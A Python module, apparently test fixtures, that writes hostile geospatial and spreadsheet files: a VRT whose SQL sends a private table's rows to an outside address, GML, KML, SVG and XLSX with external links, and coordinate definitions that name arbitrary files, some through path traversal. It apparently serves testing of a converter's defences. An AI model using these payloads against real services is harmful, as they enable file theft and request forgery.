"""Files that a stranger might send: each tries to have another file read, or an address asked."""
import json
import os
import sqlite3
import struct
import zipfile


def write(path, text):
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)
    return path


def vrt(secret, address):
    """An OGR VRT whose SQL opens a private table and sends it away."""
    return f"""<OGRVRTDataSource><OGRVRTLayer name="towns"><SrcDataSource relativeToVRT="0">{secret}</SrcDataSource>
<SrcSQL dialect="SQLITE">SELECT *, ogr_geocode(name, 'geometry', 'QUERY_TEMPLATE={address}/?q=%s') AS g FROM secret</SrcSQL>
<GeometryType>wkbPoint</GeometryType></OGRVRTLayer></OGRVRTDataSource>"""


def wfs(address):
    return f"<OGRWFSDataSource><URL>{address}/wfs?service=WFS</URL></OGRWFSDataSource>"


def gml(schema, link):
    return f"""<?xml version="1.0"?><!DOCTYPE x SYSTEM "{link}">
<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:a="urn:a" xmlns:xlink="http://www.w3.org/1999/xlink"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a {schema}">
<gml:featureMember><a:town fid="1"><a:name>A</a:name><a:ref xlink:href="{link}"/>
<a:geom><gml:Point srsName="EPSG:4326"><gml:coordinates>118,26</gml:coordinates></gml:Point></a:geom></a:town></gml:featureMember>
</gml:FeatureCollection>"""


def kml(address):
    return f"""<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>
<NetworkLink><Link><href>{address}/more.kml</href></Link></NetworkLink>
<Placemark><name>A</name><Point><coordinates>118,26</coordinates></Point></Placemark></Document></kml>"""


def geojson_crs(link):
    return json.dumps({"type": "FeatureCollection", "crs": {"type": "link", "properties": {"href": link, "type": "proj4"}},
                       "features": [{"type": "Feature", "properties": {"name": "A"},
                                     "geometry": {"type": "Point", "coordinates": [118, 26]}}]})


def definitions(path):
    """Reference systems of every form that name a file."""
    def wkt(keyword, node="["):
        text = ('PROJCS["x",GEOGCS["x",DATUM["x",SPHEROID["x",6378137,298.25],EXTENSION["%s","%s"]],PRIMEM["Greenwich",0],'
                'UNIT["degree",0.0174532925199433]],PROJECTION["Transverse_Mercator"],PARAMETER["central_meridian",118],'
                'UNIT["metre",1]]' % (keyword, path))
        return text if node == "[" else text.replace("[", "(").replace("]", ")")

    def bound(keyword):
        return ('BOUNDCRS[SOURCECRS[PROJCRS["x",BASEGEOGCRS["x",DATUM["x",ELLIPSOID["x",6378137,298.25]]],CONVERSION["x",'
                'METHOD["Transverse Mercator"],PARAMETER["Longitude of natural origin",118,ANGLEUNIT["degree",0.0174532925199433]]],'
                'CS[Cartesian,2],AXIS["e",east],AXIS["n",north],LENGTHUNIT["metre",1]]],TARGETCRS[GEOGCRS["WGS 84",'
                'DATUM["World Geodetic System 1984",ELLIPSOID["WGS 84",6378137,298.257223563]],CS[ellipsoidal,2],AXIS["lat",north],'
                'AXIS["lon",east],ANGLEUNIT["degree",0.0174532925199433]]],ABRIDGEDTRANSFORMATION["x",METHOD["NTv2"],'
                '%s["Latitude and longitude difference file","%s"]]]' % (keyword, path))

    tmerc = "+proj=tmerc +lon_0=118 +ellps=GRS80 +units=m"
    return [f"{tmerc} +nadgrids={path}", f"{tmerc} +nadgrids=@{path}", f"{tmerc} +NADGRIDS={path}", f"{tmerc} +nadgrids = {path}",
            f'{tmerc} +nadgrids="{path}"', f"{tmerc} +geoidgrids={path}", f"+init={path}:1", f"init={path}:1",
            f"proj=tmerc init={path}:1", f"{tmerc} init={path}:1", f"proj=tinshift file={path}", f"+proj=tinshift +file={path}",
            f"proj=defmodel model={path}", f"+proj=pipeline +step {tmerc} +step +proj=defmodel +model={path}",
            f"+proj=pipeline +step +proj=xyzgridshift +grids={path}", f"proj=deformation grids={path} dt=1", f"proj=vgridshift grids={path}",
            wkt("PROJ4_GRIDS"), wkt("proj4_grids"), wkt("proj4_grids", "("), bound("PARAMETERFILE"), bound("parameterfile"), path,
            f"DICT:{path},a", f"DICT:../../../../..{path},a", f"ESRI::{path}", f"file://{path}"]


def geojson_named(definition, escape=False, far=False, kind="FeatureCollection"):
    """GeoJSON that says its system by name: in letters that JSON escapes, or after the first megabyte."""
    name = json.dumps(definition)
    if escape:
        name = '"' + "".join(f"\\u{ord(letter):04x}" for letter in definition) + '"'
    crs = '"crs": {"type": "name", "properties": {"name": %s}}' % name
    pad = "x" * (1200000 if far else 1)
    point = '{"type": "Point", "coordinates": [500000, 2900000]}'
    if kind == "Topology":
        return ('{"type": "Topology", %s, "arcs": [], "objects": {"a": {"type": "GeometryCollection", "geometries": [{"type": "Point", '
                '"properties": {"name": "A"}, "coordinates": [118, 26]}]}}}' % crs)
    if kind == "Feature":
        return '{"type": "Feature", %s, "properties": {"name": "A"}, "geometry": %s}\n' % (crs, point)
    return ('{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"name": "A", "pad": "%s"}, "geometry": %s}], %s}'
            % (pad, point, crs))


def gml_in(definition):
    name = definition.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    return f"""<?xml version="1.0"?><gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:a="urn:a">
<gml:featureMember><a:town fid="1"><a:name>A</a:name><a:geom><gml:Point srsName="{name}">
<gml:coordinates>500000,2900000</gml:coordinates></gml:Point></a:geom></a:town></gml:featureMember></gml:FeatureCollection>"""


def geopackage_in(path, definition, column="definition"):
    """A GeoPackage with a layer of points whose system has a definition of its own."""
    make = "CREATE TABLE towns (fid INTEGER PRIMARY KEY, geom BLOB, name TEXT);"
    if column != "definition":
        make += f"ALTER TABLE gpkg_spatial_ref_sys ADD COLUMN {column} TEXT;"
    geopackage(path, make)
    base = sqlite3.connect(path)
    base.execute("INSERT INTO gpkg_spatial_ref_sys (srs_name, srs_id, organization, organization_coordsys_id, definition) "
                 "VALUES ('x', 100000, 'NONE', 100000, 'undefined')")
    base.execute(f"UPDATE gpkg_spatial_ref_sys SET {column} = ? WHERE srs_id = 100000", (definition,))
    base.execute("UPDATE gpkg_contents SET data_type = 'features', srs_id = 100000")
    base.execute("INSERT INTO gpkg_geometry_columns VALUES ('towns', 'geom', 'POINT', 100000, 0, 0)")
    point = b"GP\x00\x01" + struct.pack("<i", 100000) + struct.pack("<BIdd", 1, 1, 500000.0, 2900000.0)
    base.execute("INSERT INTO towns VALUES (1, ?, 'A')", (point,))
    base.commit()
    base.close()
    return path


def svg(link):
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">
<style>@import url("{link}");</style><image href="{link}" width="20" height="20"/><use xlink:href="{link}#a"/></svg>"""


def seamless(secret):
    """A MapInfo table that shows the content of another."""
    return f"""!table
!version 300
!charset WindowsSimpChinese

Definition Table
  Type NATIVE Charset "WindowsSimpChinese"
  Fields 1
    Table Char (100) ;
begin_metadata
"\\IsSeamless" = "TRUE"
end_metadata
"""


def view(secret):
    return f"""!table
!version 100
Open Table "{secret}" Hide
Create View towns As Select name From secret Where secret.name = secret.name
"""


TOWN = '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>A</t></is></c></row>'


def workbook(path, address=None, rows=TOWN, shared=None, more=(), head="", sheet="sheet1.xml"):
    """An XLSX of one sheet: with a link to an outside workbook, shared texts, more members (bytes, or
    pieces of them), and what stands before its XML."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = (f'<Relationship Id="rId2" Type="{relation}/externalLink" Target="{address}/x.xlsx" TargetMode="External"/>'
            if address else "")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml",
                         '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                         f'<Override PartName="/xl/workbook.xml" ContentType="{kind}sheet.main+xml"/>'
                         f'<Override PartName="/xl/worksheets/{sheet}" ContentType="{kind}worksheet+xml"/></Types>')
        archive.writestr("xl/workbook.xml", f'<workbook xmlns:r="{relation}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/>'
                         "</sheets>" + ('<externalReferences><externalReference r:id="rId2"/></externalReferences>' if link else "") +
                         "</workbook>")
        archive.writestr("xl/_rels/workbook.xml.rels",
                         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                         f'<Relationship Id="rId1" Type="{relation}/worksheet" Target="worksheets/{sheet}"/>{link}</Relationships>')
        if shared is not None:
            archive.writestr("xl/sharedStrings.xml", f"<sst>{shared}</sst>")
        for name, content in [more] if isinstance(more, tuple) and more else more:
            with archive.open(name, "w") as member:
                for piece in [content] if isinstance(content, bytes) else content:
                    member.write(piece)
        archive.writestr(f"xl/worksheets/{sheet}", f"{head}<worksheet><sheetData>{rows}</sheetData></worksheet>")
    return path


def geopackage(path, create, fields="name TEXT"):
    """A GeoPackage whose layer `towns` is what the SQL makes."""
    if os.path.exists(path):
        os.unlink(path)
    base = sqlite3.connect(path)
    base.executescript("""PRAGMA application_id = 1196444487; PRAGMA user_version = 10200;
CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY, organization TEXT,
  organization_coordsys_id INTEGER, definition TEXT, description TEXT);
INSERT INTO gpkg_spatial_ref_sys VALUES ('WGS 84', 4326, 'EPSG', 4326, 'GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",
6378137,298.257223563]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433],AUTHORITY["EPSG","4326"]]', '');
INSERT INTO gpkg_spatial_ref_sys VALUES ('u', -1, 'NONE', -1, 'undefined', ''), ('u', 0, 'NONE', 0, 'undefined', '');
CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT, identifier TEXT, description TEXT, last_change TEXT,
  min_x REAL, min_y REAL, max_x REAL, max_y REAL, srs_id INTEGER);
CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT, geometry_type_name TEXT, srs_id INTEGER, z INTEGER,
  m INTEGER);
CREATE TABLE base (fid INTEGER PRIMARY KEY, name TEXT); INSERT INTO base VALUES (1, 'A');
INSERT INTO gpkg_contents VALUES ('towns', 'attributes', 'towns', '', '2024-01-01T00:00:00.000Z', 0, 0, 0, 0, 4326);""")
    if create.lower().startswith("create virtual"):  # a module that sqlite3 here does not know: the schema is written by hand
        base.execute("PRAGMA writable_schema = ON")
        base.execute("INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('table', 'towns', 'towns', 0, ?)",
                     (create,))
    else:
        base.executescript(create)
    base.commit()
    base.close()
    return path
